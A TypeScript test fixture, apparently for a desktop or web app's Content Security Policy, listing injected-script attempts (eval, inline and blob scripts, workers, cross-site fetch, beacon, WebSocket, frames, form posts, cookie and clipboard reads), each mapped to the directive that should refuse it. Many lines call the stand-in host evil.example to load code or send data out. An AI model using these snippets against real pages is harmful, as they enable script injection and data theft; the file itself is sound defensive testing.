/**
 * What a script that got into the window would try. Each runs in the page, alone, and succeeds by answering true or by
 * setting `window.hacked`; `directive` is the part of the policy that must refuse it, or null where something else does.
 */
interface Attempt {
  readonly name: string;
  readonly directive: string | null;
  readonly run: () => unknown;
}

const attempt = (name: string, directive: string | null, run: () => unknown): Attempt => ({ name, directive, run });

/* oxlint-disable no-eval, no-implied-eval, no-new-func, no-script-url, cost-desk/no-open-sinks -- these are the attempts */
export const ATTEMPTS: readonly Attempt[] = [
  attempt('eval', 'script-src', () => (0, eval)('true')),
  attempt('a function out of text', 'script-src', () => new Function('return true')()),
  attempt('a timer with text', 'script-src', () => {
    setTimeout('window.hacked = true');
  }),
  attempt('an inline script', 'script-src-elem', () => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.hacked = true' }));
  }),
  attempt('an inline script with a guessed nonce', 'script-src-elem', () => {
    const script = Object.assign(document.createElement('script'), { textContent: 'window.hacked = true' });
    // Even the nonce of the styles does not help scripts.
    script.nonce = document.querySelector<HTMLMetaElement>('meta[name="csp-nonce"]')?.content ?? '';
    document.body.append(script);
  }),
  attempt('an inline handler in markup', 'script-src-attr', () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="missing.png" onerror="window.hacked = true">');
    return new Promise((resolve) => setTimeout(resolve, 400));
  }),
  attempt('a link that is a script', 'script-src-elem', () => {
    Object.assign(document.createElement('a'), { href: 'javascript:window.hacked = true' }).click();
  }),
  attempt('a script in a data address', 'script-src-elem', () => {
    document.body.append(
      Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.hacked = true' }),
    );
  }),
  attempt('a script in a blob', 'script-src-elem', () => {
    const src = URL.createObjectURL(new Blob(['window.hacked = true'], { type: 'text/javascript' }));
    document.body.append(Object.assign(document.createElement('script'), { src }));
  }),
  attempt('a script of another site', 'script-src-elem', () => {
    document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }));
  }),
  attempt('an import of text', 'script-src-elem', async () => {
    const address = 'data:text/javascript,export default true';
    return ((await import(address)) as { default: boolean }).default;
  }),
  attempt('WebAssembly', 'script-src', () =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(() => true),
  ),
  attempt('a worker in a blob', 'worker-src', () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })));
    return new Promise((resolve) => worker.addEventListener('message', () => resolve(true)));
  }),
  attempt('a service worker', null, async () => {
    const script = document.querySelector('script[src]')?.getAttribute('src') ?? '';
    await navigator.serviceWorker.register(script, { type: 'module' });
    return true;
  }),
  attempt('a request to another site', 'connect-src', () => fetch('https://evil.example/').then(() => true)),
  attempt('a request of the old kind', 'connect-src', () => {
    const request = new XMLHttpRequest();
    request.open('GET', 'https://evil.example/');
    request.send();
    return new Promise((resolve) => request.addEventListener('load', () => resolve(true)));
  }),
  attempt('a WebSocket', 'connect-src', () => {
    const socket = new WebSocket('wss://evil.example/');
    return new Promise((resolve) => socket.addEventListener('open', () => resolve(true)));
  }),
  attempt('a stream of events', 'connect-src', () => {
    const source = new EventSource('https://evil.example/');
    return new Promise((resolve) => source.addEventListener('open', () => resolve(true)));
  }),
  attempt('a beacon', 'connect-src', () => {
    navigator.sendBeacon('https://evil.example/', 'data');
  }),
  attempt('a ping of a link', 'connect-src', () => {
    const link = Object.assign(document.createElement('a'), { href: '#/', ping: 'https://evil.example/' });
    document.body.append(link);
    link.click();
  }),
  attempt('a picture of another site', 'img-src', () => {
    const image = Object.assign(new Image(), { src: 'https://evil.example/a.png' });
    return new Promise((resolve) => image.addEventListener('load', () => resolve(true)));
  }),
  attempt('a sound of another site', 'media-src', () => {
    const sound = Object.assign(new Audio(), { src: 'https://evil.example/a.mp3' });
    return new Promise((resolve) => sound.addEventListener('loadstart', () => setTimeout(resolve, 300)));
  }),
  attempt('a font of another site', 'font-src', () =>
    new FontFace('evil', 'url(https://evil.example/a.woff2)').load().then(() => true),
  ),
  attempt('a stylesheet of another site', 'style-src-elem', () => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/a.css' }),
    );
  }),
  attempt('a style element without the nonce', 'style-src-elem', () => {
    document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { color: #123456 }' }));
    return getComputedStyle(document.body).color === 'rgb(18, 52, 86)';
  }),
  attempt('a style attribute in markup', 'style-src-attr', () => {
    document.body.insertAdjacentHTML('beforeend', '<p id="evil" style="color: #123456">x</p>');
    return getComputedStyle(document.querySelector('#evil') ?? document.body).color === 'rgb(18, 52, 86)';
  }),
  attempt('something fetched ahead', 'default-src', () => {
    document.head.append(
      Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://evil.example/a' }),
    );
  }),
  attempt('a frame of another site', 'frame-src', () => {
    document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
  }),
  attempt('a frame of its own page', 'frame-src', () => {
    const frame = Object.assign(document.createElement('iframe'), { src: '/' });
    document.body.append(frame);
    return new Promise((resolve) =>
      frame.addEventListener('load', () =>
        resolve(frame.contentDocument?.querySelector('#root') !== null && frame.contentDocument !== null),
      ),
    );
  }),
  attempt('a frame with a script in it', null, () => {
    const srcdoc = '<script>parent.hacked = true</script>';
    document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
    return new Promise((resolve) => setTimeout(resolve, 400));
  }),
  attempt('a plug-in', 'object-src', () => {
    document.body.append(Object.assign(document.createElement('object'), { data: 'https://evil.example/a.swf' }));
  }),
  attempt('another base of its addresses', 'base-uri', () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    return document.baseURI.includes('evil');
  }),
  attempt('a form that posts to another site', 'form-action', () => {
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' });
    document.body.append(form);
    form.submit();
  }),
  attempt('a form that posts to the bridge', 'form-action', () => {
    const form = Object.assign(document.createElement('form'), { action: '/bridge/startEmpty', method: 'post' });
    document.body.append(form);
    form.submit();
  }),
  attempt('reading the clipboard', null, () => navigator.clipboard.readText().then(() => true)),
  attempt(
    'asking where the machine is',
    null,
    () =>
      new Promise((resolve, reject) => {
        navigator.geolocation.getCurrentPosition(() => resolve(true), reject);
      }),
  ),
  attempt('reading the cookie of the session', null, () => document.cookie.includes('cost-desk')),
  attempt('reading what Node has', null, () => 'require' in window || 'process' in window || 'module' in window),
];
/* oxlint-enable no-eval, no-implied-eval, no-new-func, no-script-url, cost-desk/no-open-sinks */
